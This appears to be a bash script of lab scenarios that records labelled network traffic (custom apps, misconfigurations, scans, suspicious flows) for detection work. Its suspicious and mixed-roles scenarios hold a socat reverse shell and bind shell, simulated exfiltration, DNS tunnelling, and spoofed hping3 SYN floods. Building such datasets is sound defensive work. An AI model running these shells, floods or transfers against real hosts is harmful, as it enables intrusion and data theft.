# The scenarios, sourced by tools/record-scenarios (which defines the topology, run_in/bg,
# label, cap_start/cap_stop).  Each one starts its servers, runs its clients (each bounded
# by a count and by `timeout`), and writes one label row for every
# (client, server, server_port, transport) it aimed traffic at.
# shellcheck shell=bash

scenario_custom_application() {
  local sc=custom_application
  cap_start custom_application
  bg s1 90 python3 "$helpers/services.py" inhouse-server --port "$CUSTOM_TCP" --seed $((seed + 1)) --lifetime 85
  bg s3 90 python3 "$helpers/services.py" inhouse-server --port "$CUSTOM_TLS" --cert "$work/tls.crt" --key "$work/tls.key" --lifetime 85
  bg s3 90 python3 "$helpers/services.py" inhouse-server --port "$UNASSIGNED_CUSTOM" --seed $((seed + 2)) --lifetime 85
  bg s2 90 python3 "$helpers/services.py" inhouse-server --port "$CUSTOM_UDP" --udp --seed $((seed + 3)) --lifetime 85
  bg s2 90 socat "TCP-LISTEN:$CUSTOM_ECHO,fork,reuseaddr" EXEC:cat
  # controls: the same kind of use of active, registered services
  bg s2 90 python3 -m http.server 80 --bind "$S2" --directory "$helpers"
  bg s2 90 python3 "$helpers/services.py" dns-server --port 53 --answer "$S1" --lifetime 85
  sshd_on s3 22
  tls_www_on s3 443
  sleep 1
  local pids=() c i n=0
  for c in c1 c2 c3; do
    n=$((n + 1))
    run_in "$c" 60 python3 "$helpers/services.py" inhouse-client --host "$S1" --port "$CUSTOM_TCP" \
      --sessions 12 --seed $((seed * 100 + n)) --gap-min 0.5 --gap-max 6 --deadline 50 & pids+=($!)
    label "$(ipof "$c")" "$S1" "$CUSTOM_TCP" tcp custom_application "$sc.inhouse_tcp" python3
  done
  for c in c2 c4; do
    n=$((n + 1))
    run_in "$c" 60 python3 "$helpers/services.py" inhouse-client --host "$S3" --port "$CUSTOM_TLS" --tls \
      --sessions 8 --seed $((seed * 100 + n)) --gap-min 1 --gap-max 8 --deadline 50 & pids+=($!)
    label "$(ipof "$c")" "$S3" "$CUSTOM_TLS" tcp custom_application "$sc.inhouse_tls" python3
  done
  for c in c1 c3; do
    n=$((n + 1))
    run_in "$c" 60 python3 "$helpers/services.py" inhouse-client --host "$S3" --port "$UNASSIGNED_CUSTOM" \
      --sessions 6 --seed $((seed * 100 + n)) --gap-min 1 --gap-max 10 --deadline 50 & pids+=($!)
    label "$(ipof "$c")" "$S3" "$UNASSIGNED_CUSTOM" tcp custom_application "$sc.inhouse_tcp_unassigned" python3
  done
  for c in c1 c4; do
    n=$((n + 1))
    run_in "$c" 60 python3 "$helpers/services.py" inhouse-client --host "$S2" --port "$CUSTOM_UDP" --udp \
      --sessions 8 --seed $((seed * 100 + n)) --gap-min 1 --gap-max 7 --deadline 50 & pids+=($!)
    label "$(ipof "$c")" "$S2" "$CUSTOM_UDP" udp custom_application "$sc.inhouse_udp" python3
  done
  for c in c3 c4; do
    (for ((i = 0; i < 6 && SECONDS < 900; i++)); do
       head -c $((RANDOM % 3000 + 50)) /dev/urandom |
         run_in "$c" 10 socat -t 1 - "TCP:$S2:$CUSTOM_ECHO,connect-timeout=2" >/dev/null 2>&1 || true
       sleep "$((RANDOM % 6)).$((RANDOM % 9 + 1))"
     done) & pids+=($!)
    label "$(ipof "$c")" "$S2" "$CUSTOM_ECHO" tcp custom_application "$sc.socat_echo" socat
  done
  # controls on active ports (label benign: ordinary use of a live registered service)
  for c in c1 c2; do
    (for ((i = 0; i < 4; i++)); do run_in "$c" 10 curl -s -o /dev/null "http://$S2/services.py" || true; sleep 1.$((RANDOM % 9)); done) & pids+=($!)
    label "$(ipof "$c")" "$S2" 80 tcp benign "$sc.control_http" curl
  done
  (for ((i = 0; i < 4; i++)); do run_in c3 10 dig +short +tries=1 +time=2 "@$S2" build.corp.internal >/dev/null || true; sleep 1.$((RANDOM % 9)); done) & pids+=($!)
  label "$C3" "$S2" 53 udp benign "$sc.control_dns" dig
  (for ((i = 0; i < 2; i++)); do run_in c4 15 ssh-keyscan -T 5 -t ed25519 "$S3" >/dev/null 2>&1 || true; sleep 2; done) & pids+=($!)
  label "$C4" "$S3" 22 tcp benign "$sc.control_ssh" ssh-keyscan
  (for ((i = 0; i < 3; i++)); do run_in c2 10 curl -sk -o /dev/null "https://$S3/" || true; sleep 1.$((RANDOM % 9)); done) & pids+=($!)
  label "$C2" "$S3" 443 tcp benign "$sc.control_https" curl
  wait_all "${pids[@]}"
  stop_scenario_bg
  cap_stop pcap
}

scenario_misconfiguration() {
  local sc=misconfiguration
  cap_start misconfiguration
  sshd_on s3 22 "$CURL_PORT"
  tls_www_on s3 443
  bg s1 60 python3 "$helpers/services.py" inhouse-server --port "$CUSTOM_TCP" --lifetime 55
  sleep 1
  local pids=()
  run_in c1 30 python3 "$helpers/services.py" retry --kind tcp --host "$S2" --port "$NOLISTEN_TCP" --count 8 --interval 0.8 --deadline 20 & pids+=($!)
  label "$C1" "$S2" "$NOLISTEN_TCP" tcp misconfiguration "$sc.retry_closed_tcp" python3
  run_in c2 30 python3 "$helpers/services.py" retry --kind udp --host "$S2" --port "$NOLISTEN_UDP" --count 8 --interval 0.8 --deadline 20 & pids+=($!)
  label "$C2" "$S2" "$NOLISTEN_UDP" udp misconfiguration "$sc.retry_closed_udp" python3
  (for ((i = 0; i < 3; i++)); do run_in c3 10 dig +tries=2 +time=1 -p "$DIG_PORT" "@$S1" fileserver.corp.internal >/dev/null || true; sleep 1; done) & pids+=($!)
  label "$C3" "$S1" "$DIG_PORT" udp misconfiguration "$sc.dig_to_odd_port" dig
  local c
  for c in c1 c4; do
    (for ((i = 0; i < 3; i++)); do run_in "$c" 10 curl -s -m 4 -o /dev/null "http://$S3:$CURL_PORT/index.html" || true; sleep 1.$((RANDOM % 9)); done) & pids+=($!)
    label "$(ipof "$c")" "$S3" "$CURL_PORT" tcp misconfiguration "$sc.http_to_ssh" curl
  done
  (for ((i = 0; i < 3; i++)); do run_in c3 10 curl -s -m 4 -o /dev/null "http://$S3:443/" || true; sleep 1.$((RANDOM % 9)); done) & pids+=($!)
  label "$C3" "$S3" 443 tcp misconfiguration "$sc.control_http_to_tls" curl
  (for ((i = 0; i < 5; i++)); do run_in c4 5 logger --udp -n "$S1" -P "$SYSLOG_PORT" -t backup-job "nightly backup finished rc=$i" || true; sleep 0.$((RANDOM % 9 + 1)); done) & pids+=($!)
  label "$C4" "$S1" "$SYSLOG_PORT" udp misconfiguration "$sc.syslog_wrong_port" logger
  run_in c3 30 python3 "$helpers/services.py" retry --kind ntp --host "$S2" --port "$NTP_PORT" --count 5 --interval 1 --deadline 15 & pids+=($!)
  label "$C3" "$S2" "$NTP_PORT" udp misconfiguration "$sc.ntp_wrong_port" python3
  # the in-house client with a stale config: right port, wrong host
  run_in c4 30 python3 "$helpers/services.py" retry --kind tcp --host "$S2" --port "$WRONGHOST_PORT" --count 6 --interval 1.2 --deadline 20 & pids+=($!)
  label "$C4" "$S2" "$WRONGHOST_PORT" tcp misconfiguration "$sc.wrong_host" python3
  # controls on active ports: the web and DNS servers that are not there
  (for ((i = 0; i < 4; i++)); do run_in c2 10 curl -s -m 3 -o /dev/null "http://$S1/" || true; sleep 1; done) & pids+=($!)
  label "$C2" "$S1" 80 tcp misconfiguration "$sc.control_http_no_server" curl
  (for ((i = 0; i < 2; i++)); do run_in c1 10 dig +tries=2 +time=1 "@$S1" wiki.corp.internal >/dev/null || true; sleep 1; done) & pids+=($!)
  label "$C1" "$S1" 53 udp misconfiguration "$sc.control_dns_no_server" dig
  wait_all "${pids[@]}"
  stop_scenario_bg
  cap_stop pcap
}

scenario_scanner_noise() {
  local sc=scanner_noise
  cap_start scanner_noise
  # something to find: the services of the other scenarios are up
  bg s1 200 python3 "$helpers/services.py" inhouse-server --port "$CUSTOM_TCP" --lifetime 195
  bg s3 200 python3 "$helpers/services.py" inhouse-server --port "$CUSTOM_TLS" --cert "$work/tls.crt" --key "$work/tls.key" --lifetime 195
  sshd_on s3 22 "$CURL_PORT"
  bg s2 200 python3 -m http.server 80 --bind "$S2" --directory "$helpers"
  bg s2 200 python3 "$helpers/services.py" dns-server --port 53 --lifetime 195
  bg e2 200 socat "TCP-LISTEN:$VICTIM_OPEN,fork,reuseaddr" SYSTEM:"sleep 1"
  sleep 1
  local ports="1-1100,$ROLE_PORTS" nmap_common=(-Pn -n --max-retries 1 --host-timeout 90s)
  # outside: SYN scan, a vertical sweep of one server
  log "nmap -sS"
  run_in es 120 nmap "${nmap_common[@]}" -T4 -sS -p "$ports" "$S1" >/dev/null
  label_ports "$ES" "$S1" "$ports" tcp scanner_noise "$sc.nmap_syn" nmap
  # outside: FIN, NULL and Xmas scans on a smaller range
  local small="1-100,$ROLE_PORTS" t
  for t in F N X; do
    log "nmap -s$t"
    run_in es 60 nmap "${nmap_common[@]}" -T5 "-s$t" -p "$small" "$S2" >/dev/null
  done
  label_ports "$ES" "$S2" "$small" tcp scanner_noise "$sc.nmap_fin_null_xmas" nmap
  # outside: version detection on the open ports of two servers
  log "nmap -sV"
  local vports="22,80,443,$CUSTOM_TCP,$CUSTOM_TLS,$CURL_PORT"
  run_in es 90 nmap "${nmap_common[@]}" -T4 -sV --version-intensity 2 -p "$vports" "$S3" >/dev/null
  label_ports "$ES" "$S3" "$vports" tcp scanner_noise "$sc.nmap_version" nmap
  # inside host: connect scan and UDP scan
  log "nmap -sT/-sU from inside"
  run_in ci 90 nmap "${nmap_common[@]}" -T4 -sT -p "1-300,$ROLE_PORTS" "$S3" >/dev/null
  label_ports "$CI" "$S3" "1-300,$ROLE_PORTS" tcp scanner_noise "$sc.nmap_connect_inside" nmap
  local uports="50-60,123,137,161,500,$ROLE_PORTS"
  run_in ci 90 nmap "${nmap_common[@]}" -T4 -sU -p "$uports" "$S2" >/dev/null
  label_ports "$CI" "$S2" "$uports" udp scanner_noise "$sc.nmap_udp_inside" nmap
  # outside: masscan, horizontal over the inside server network
  log "masscan"
  local mports="22,80,443,$CUSTOM_TCP,$CURL_PORT,$DIG_PORT"
  run_in es 25 masscan -e eth0 --adapter-ip "$ES" --adapter-mac "$ES_MAC" --router-mac "$R_MAC_OUT" \
    --rate 1000 --wait 2 -p "$mports" "$SRV_NET.1-$SRV_NET.254" >/dev/null 2>>"$work/bg.log" || true
  local h
  for ((h = 1; h <= 254; h++)); do label_ports "$ES" "$SRV_NET.$h" "$mports" tcp scanner_noise "$sc.masscan" masscan; done
  # outside: zmap, one port across the inside client network (its default blocklist
  # would refuse private space; the allowlist is exactly the namespace subnet)
  log "zmap"
  : >"$work/zmap.blocklist"
  echo "$CLI_NET.0/24" >"$work/zmap.allowlist"
  run_in es 30 zmap -q -i eth0 -S "$ES" -G "$R_MAC_OUT" --source-mac "$ES_MAC" -b "$work/zmap.blocklist" \
    -w "$work/zmap.allowlist" -p "$DIG_PORT" -r 300 -c 2 -t 20 -o /dev/null >/dev/null 2>>"$work/bg.log" || true
  for ((h = 0; h <= 255; h++)); do label "$ES" "$CLI_NET.$h" "$DIG_PORT" tcp scanner_noise "$sc.zmap" zmap; done
  # hping3 SYN probes: outside on one port, inside walking a port range
  log "hping3"
  run_in es 20 hping3 -q -S -p "$BEACON_IN" -c 8 -i u200000 "$S3" >/dev/null 2>&1 || true
  label "$ES" "$S3" "$BEACON_IN" tcp scanner_noise "$sc.hping3_syn" hping3
  run_in ci 20 hping3 -q -S -p "++$CUSTOM_TCP" -c 20 -i u100000 "$S1" >/dev/null 2>&1 || true
  label_ports "$CI" "$S1" "$CUSTOM_TCP-$((CUSTOM_TCP + 19))" tcp scanner_noise "$sc.hping3_syn_inside" hping3
  # backscatter: e4 floods e2 with SYNs forged from unused inside addresses; what we see
  # are e2's SYN-ACKs (open port) and RSTs (closed port) to hosts that never asked
  log "backscatter"
  local k spoof
  for ((k = 0; k < 6; k++)); do
    spoof=$CLI_NET.$((SPOOF_FIRST + k))
    run_in e4 10 hping3 -q -S -a "$spoof" -p "$VICTIM_OPEN" -c 2 -i u300000 "$E2" >/dev/null 2>&1 || true
    run_in e4 10 hping3 -q -S -a "$spoof" -p "$VICTIM_CLOSED" -c 2 -i u300000 "$E2" >/dev/null 2>&1 || true
    label "$spoof" "$E2" "$VICTIM_OPEN" tcp scanner_noise "$sc.backscatter_synack" hping3
    label "$spoof" "$E2" "$VICTIM_CLOSED" tcp scanner_noise "$sc.backscatter_rst" hping3
  done
  stop_scenario_bg
  cap_stop pcapng
}

scenario_suspicious() {
  local sc=suspicious
  cap_start suspicious
  bg e1 90 python3 "$helpers/services.py" beacon-server --port "$BEACON_OUT" --lifetime 85
  bg e1 90 python3 "$helpers/services.py" beacon-server --port "$UNASSIGNED_BEACON" --lifetime 85
  bg e3 90 python3 "$helpers/services.py" beacon-server --port 443 --lifetime 85
  bg s3 90 python3 "$helpers/services.py" beacon-server --port "$BEACON_IN" --lifetime 85
  bg e1 90 python3 "$helpers/services.py" dns-server --port "$TUNNEL_PORT" --lifetime 85
  bg e4 90 socat -u "TCP-LISTEN:$EXFIL_PORT,reuseaddr" OPEN:/dev/null
  sleep 1
  local pids=() cnt
  cnt=$(awk -v s="$BEACON_S" 'BEGIN{print int(40/s)}')
  run_in c3 70 python3 "$helpers/services.py" beacon-client --host "$E1" --port "$BEACON_OUT" --count "$cnt" --interval "$BEACON_S" --jitter 0.2 --seed $((seed + 11)) --deadline 55 & pids+=($!)
  label "$C3" "$E1" "$BEACON_OUT" tcp suspicious "$sc.beacon_out" python3
  run_in c1 70 python3 "$helpers/services.py" beacon-client --host "$E1" --port "$UNASSIGNED_BEACON" --count "$cnt" --interval "$BEACON_S" --jitter 0.1 --seed $((seed + 12)) --deadline 55 & pids+=($!)
  label "$C1" "$E1" "$UNASSIGNED_BEACON" tcp suspicious "$sc.beacon_out_unassigned" python3
  run_in e2 70 python3 "$helpers/services.py" beacon-client --host "$S3" --port "$BEACON_IN" --count 16 --interval 2.8 --jitter 0.25 --seed $((seed + 13)) --deadline 55 & pids+=($!)
  label "$E2" "$S3" "$BEACON_IN" tcp suspicious "$sc.beacon_in_accepted" python3
  run_in c4 70 python3 "$helpers/services.py" beacon-client --host "$E3" --port 443 --count "$cnt" --interval "$BEACON_S" --jitter 0.15 --seed $((seed + 14)) --deadline 55 & pids+=($!)
  label "$C4" "$E3" 443 tcp suspicious "$sc.control_beacon_443" python3
  # reverse shell: the inside host calls out, the outside listener drives a shell
  ( { sleep 1; for cmd in id "uname -a" hostname "ls /" "ip -brief addr" "cat /etc/os-release"; do
        echo "$cmd"; sleep 0.$((RANDOM % 9 + 1)); sleep 1; done; echo exit; sleep 1; } |
      run_in e3 30 socat -t 2 - "TCP-LISTEN:$SHELL_PORT,reuseaddr" >/dev/null 2>&1 || true ) & pids+=($!)
  sleep 0.5
  run_in c2 30 socat "TCP:$E3:$SHELL_PORT,connect-timeout=3,retry=3" EXEC:/bin/sh,stderr >/dev/null 2>&1 & pids+=($!)
  label "$C2" "$E3" "$SHELL_PORT" tcp suspicious "$sc.reverse_shell" socat
  # a large one-way transfer of random bytes to an outside host
  (sleep 3; timeout 30 openssl rand $((1200000 + RANDOM * 10)) |
     run_in s2 30 socat -u - "TCP:$E4:$EXFIL_PORT,connect-timeout=3" >/dev/null 2>&1 || true) & pids+=($!)
  label "$S2" "$E4" "$EXFIL_PORT" tcp suspicious "$sc.exfil_random" "openssl rand + socat"
  # DNS-shaped tunnel on an odd port
  run_in c4 60 python3 "$helpers/services.py" dns-tunnel-client --host "$E1" --port "$TUNNEL_PORT" --count 60 --interval "$TUNNEL_S" --seed $((seed + 15)) --deadline 30 & pids+=($!)
  label "$C4" "$E1" "$TUNNEL_PORT" udp suspicious "$sc.dns_tunnel_odd_port" python3
  wait_all "${pids[@]}"
  stop_scenario_bg
  cap_stop pcap
}

# All of the above at once: the first capture recorded starts the clock, every other capture is
# shifted (editcap -t) to start 10-100 s later (drawn from the seed) so they overlap, then
# all are merged; labels are the union (the recorder refuses a tuple with two labels).
build_mixed() {
  local f first start shift_s i=0 parts=()
  CAP=mixed
  for f in "${FINAL[@]}"; do
    [[ $f == mixed.* ]] && continue
    start=$(capinfos -a -S -T -r "$work/$f" | cut -f2 | cut -d. -f1)
    [[ -z ${first:-} ]] && first=$start
    if ((i == 0)); then shift_s=0; else shift_s=$((first - start + 10 + RANDOM % 91)); fi
    timeout 60 editcap -F pcap -t "$shift_s" "$work/$f" "$work/mixed.part$i.pcap"
    parts+=("$work/mixed.part$i.pcap")
    i=$((i + 1))
  done
  ((${#parts[@]})) || { log "mixed: nothing recorded to mix"; return 1; }
  timeout 60 mergecap -F pcap -w "$work/mixed.pcap" "${parts[@]}"
  local conflicts
  conflicts=$(for f in "${FINAL[@]}"; do tail -n +2 "$work/${f%.*}.labels.final.csv"; done |
    awk -F, '{k=$1","$2","$3","$4; if (k in l && l[k] != $5) print k": "l[k]" vs "$5; l[k]=$5}')
  if [[ -n $conflicts ]]; then log "a tuple carries two labels:"; echo "$conflicts" >&2; return 1; fi
  { echo "client,server,server_port,transport,label,scenario,tool,port_role"
    for f in "${FINAL[@]}"; do tail -n +2 "$work/${f%.*}.labels.final.csv"; done |
      awk -F, '!seen[$1 FS $2 FS $3 FS $4]++' | sort -t, -k1,1 -k2,2 -k3,3n; } \
    >"$work/mixed.labels.final.csv"
  FINAL+=(mixed.pcap)
  log "capture mixed: $(($(wc -l <"$work/mixed.labels.final.csv") - 1)) label rows"
}

# Hosts with more than one role, on IPv4 and IPv6: an inside host that uses two in-house
# applications and also sweeps the servers (its sessions are its own, not scanner noise); an
# outside host that scans, then drives a bind shell and uploads a file on the ports it found
# open (scan then exploit); a host that beacons out and also browses; and modern registered
# services (MQTT, Redis) used the ordinary way, which must stay unlabelled.
scenario_mixed_roles() {
  local sc=mixed_roles
  cap_start mixed_roles
  bg s1 120 python3 "$helpers/services.py" inhouse-server --port "$CUSTOM_TCP" --seed $((seed + 21)) --lifetime 115
  bg s2 120 python3 "$helpers/services.py" inhouse-server --port "$CUSTOM_UDP" --udp --seed $((seed + 22)) --lifetime 115
  bg s2 120 socat "TCP6-LISTEN:$SHELL_IN,fork,reuseaddr" EXEC:/bin/sh,stderr
  bg s3 120 socat -u "TCP6-LISTEN:$UPLOAD_IN,fork,reuseaddr" OPEN:/dev/null
  printf 'listener 1883\nallow_anonymous true\npersistence false\nlog_dest stderr\n' >"$work/mosquitto.conf"
  bg s2 120 mosquitto -c "$work/mosquitto.conf"
  bg s3 120 redis-server --port 6379 --bind 0.0.0.0 :: --protected-mode no --save '' \
    --appendonly no --dir "$work"
  bg e2 120 python3 "$helpers/services.py" beacon-server --port "$BEACON_OUT" --lifetime 115
  tls_www_on e3 443
  bg e3 120 python3 -m http.server 80 --directory "$helpers"
  sleep 1.5
  local pids=() c i
  # the mixed-role inside host: its applications first (it used them before it swept), then
  # a TCP connect sweep and a UDP sweep that also cross its own applications' ports
  run_in cm 80 python3 "$helpers/services.py" inhouse-client --host "$S1" --port "$CUSTOM_TCP" \
    --sessions 10 --seed $((seed * 100 + 21)) --gap-min 1 --gap-max 6 --deadline 60 & pids+=($!)
  label "$CM" "$S1" "$CUSTOM_TCP" tcp custom_application "$sc.inside_sweeper_app_tcp" python3
  run_in cm 80 python3 "$helpers/services.py" inhouse-client --host "$S2" --port "$CUSTOM_UDP" --udp \
    --sessions 8 --seed $((seed * 100 + 22)) --gap-min 1 --gap-max 6 --deadline 60 & pids+=($!)
  label "$CM" "$S2" "$CUSTOM_UDP" udp custom_application "$sc.inside_sweeper_app_udp" python3
  # the same application from another inside host over IPv6
  run_in c2 80 python3 "$helpers/services.py" inhouse-client --host "$S1_6" --port "$CUSTOM_TCP" \
    --sessions 8 --seed $((seed * 100 + 23)) --gap-min 1 --gap-max 7 --deadline 60 & pids+=($!)
  label "$C2_6" "$S1_6" "$CUSTOM_TCP" tcp custom_application "$sc.inhouse_tcp_ipv6" python3
  # the beaconing host that also browses
  # (to another host than the suspicious scenario's beacon: in the mixed capture, two shifted
  # series on one tuple would be no timer)
  run_in c3 80 python3 "$helpers/services.py" beacon-client --host "$E2" --port "$BEACON_OUT" \
    --count 30 --interval "$BEACON_S" --jitter 0.2 --seed $((seed + 24)) --deadline 50 & pids+=($!)
  label "$C3" "$E2" "$BEACON_OUT" tcp suspicious "$sc.beacon_while_browsing" python3
  (for ((i = 0; i < 4; i++)); do
     run_in c3 10 curl -s -o /dev/null "http://$E3/services.py" || true
     run_in c3 10 curl -sk -o /dev/null "https://$E3/" || true
     sleep "$((RANDOM % 5 + 2)).$((RANDOM % 9))"
   done) & pids+=($!)
  label "$C3" "$E3" 80 tcp benign "$sc.control_browsing_http" curl
  label "$C3" "$E3" 443 tcp benign "$sc.control_browsing_https" curl
  # MQTT and Redis: registered, modern, used the ordinary way (IPv4 and IPv6)
  (for ((i = 0; i < 5; i++)); do
     run_in c1 10 mosquitto_sub -h "$S2" -t "plant/line$i/temp" -C 1 -W 3 >/dev/null 2>&1 &
     sleep 0.5
     run_in c4 10 mosquitto_pub -h "$S2" -t "plant/line$i/temp" -m "$((RANDOM % 40)).$((RANDOM % 10))" || true
     wait
     sleep "$((RANDOM % 4 + 1)).$((RANDOM % 9))"
   done) & pids+=($!)
  label "$C1" "$S2" 1883 tcp benign "$sc.control_mqtt_sub" mosquitto_sub
  label "$C4" "$S2" 1883 tcp benign "$sc.control_mqtt_pub" mosquitto_pub
  (for ((i = 0; i < 5; i++)); do
     run_in c4 10 redis-cli -h "$S3" set "job:$i" "$RANDOM" >/dev/null || true
     run_in c2 10 redis-cli -h "$S3_6" get "job:$i" >/dev/null || true
     sleep "$((RANDOM % 4 + 1)).$((RANDOM % 9))"
   done) & pids+=($!)
  label "$C4" "$S3" 6379 tcp benign "$sc.control_redis" redis-cli
  label "$C2_6" "$S3_6" 6379 tcp benign "$sc.control_redis_ipv6" redis-cli
  sleep 4
  local sweep_tcp="1-200,$CUSTOM_TCP,$CUSTOM_TLS,$UPLOAD_IN" sweep_udp="50-60,123,161,500,$CUSTOM_UDP,$NOLISTEN_UDP"
  local nmap_common=(-Pn -n --max-retries 1 --host-timeout 60s)
  log "mixed roles: inside sweeps (nmap -sT, -sU)"
  run_in cm 70 nmap "${nmap_common[@]}" -T4 -sT -p "$sweep_tcp" "$S1" "$S3" >/dev/null
  label_ports "$CM" "$S1" "$sweep_tcp" tcp scanner_noise "$sc.inside_sweep_tcp" nmap
  label_ports "$CM" "$S3" "$sweep_tcp" tcp scanner_noise "$sc.inside_sweep_tcp" nmap
  run_in cm 70 nmap "${nmap_common[@]}" -T4 -sU -p "$sweep_udp" "$S2" >/dev/null
  label_ports "$CM" "$S2" "$sweep_udp" udp scanner_noise "$sc.inside_sweep_udp" nmap
  # scan then exploit, from outside: over IPv6 on even seeds, IPv4 on odd ones
  local ea=$EA t2=$S2 t3=$S3 six=() connect=TCP
  if ((seed % 2 == 0)); then ea=$EA_6 t2=$S2_6 t3=$S3_6 six=(-6) connect=TCP6; fi
  local attack_ports="1-1100,$ROLE_PORTS"
  log "mixed roles: scan then exploit from $ea"
  run_in ea 90 nmap "${six[@]}" "${nmap_common[@]}" -T4 -sS -p "$attack_ports" "$t2" "$t3" >/dev/null
  label "$ea" "$t2" "$SHELL_IN" tcp suspicious "$sc.scan_then_shell" "nmap + socat"
  label "$ea" "$t3" "$UPLOAD_IN" tcp suspicious "$sc.scan_then_upload" "nmap + socat"
  label_ports "$ea" "$t2" "$attack_ports" tcp scanner_noise "$sc.attacker_scan" nmap
  label_ports "$ea" "$t3" "$attack_ports" tcp scanner_noise "$sc.attacker_scan" nmap
  # socat wants an IPv6 address in brackets
  local h2=$t2 h3=$t3
  ((seed % 2 == 0)) && h2="[$t2]" h3="[$t3]"
  ( { sleep 1; for cmd in id "uname -a" hostname "ls /" "ip -brief addr" "cat /etc/os-release" \
        "ls -la /etc" "ps ax"; do echo "$cmd"; sleep 1.$((RANDOM % 9)); done; echo exit; sleep 1; } |
      run_in ea 40 socat -t 2 - "$connect:$h2:$SHELL_IN,connect-timeout=3" >/dev/null 2>&1 || true ) & pids+=($!)
  (sleep 2; timeout 30 openssl rand $((1200000 + RANDOM * 10)) |
     run_in ea 30 socat -u - "$connect:$h3:$UPLOAD_IN,connect-timeout=3" >/dev/null 2>&1 || true) & pids+=($!)
  wait_all "${pids[@]}"
  stop_scenario_bg
  cap_stop pcap
}

# What the capture missed is not behaviour: an in-house session already running when the
# capture started (no handshake in the file), and an in-house service whose clients'
# packets the sensor never sees (asymmetric routing: only the server's side is captured).
# Neither may draw an alarm; the application may still be named.
scenario_artefacts() {
  local sc=artefacts
  bg s1 90 socat "TCP6-LISTEN:$MIDSTREAM_PORT,fork,reuseaddr" EXEC:cat
  bg s3 90 python3 "$helpers/services.py" inhouse-server --port "$ONESIDED_PORT" --seed $((seed + 31)) --lifetime 85
  sleep 1
  local pids=() c i n=0
  # one long session, started before the capture
  ( for ((i = 0; i < 60; i++)); do echo "sync $i $(head -c $((RANDOM % 200 + 20)) /dev/urandom | base64 -w0)"; sleep 0.5; done |
      run_in c4 45 socat -t 2 - "TCP:$S1:$MIDSTREAM_PORT,connect-timeout=3" >/dev/null 2>&1 || true ) & pids+=($!)
  sleep 4
  cap_start artefacts "not (dst host $S3 and tcp dst port $ONESIDED_PORT)"
  label "$C4" "$S1" "$MIDSTREAM_PORT" tcp "custom_application|unknown" "$sc.began_midstream" socat
  for c in c1 c2 c3; do
    n=$((n + 1))
    run_in "$c" 60 python3 "$helpers/services.py" inhouse-client --host "$S3" --port "$ONESIDED_PORT" \
      --sessions 6 --seed $((seed * 100 + 30 + n)) --gap-min 1 --gap-max 6 --deadline 30 & pids+=($!)
    label "$(ipof "$c")" "$S3" "$ONESIDED_PORT" tcp "custom_application|unknown" "$sc.one_sided" python3
  done
  wait_all "${pids[@]}"
  stop_scenario_bg
  cap_stop pcap
}
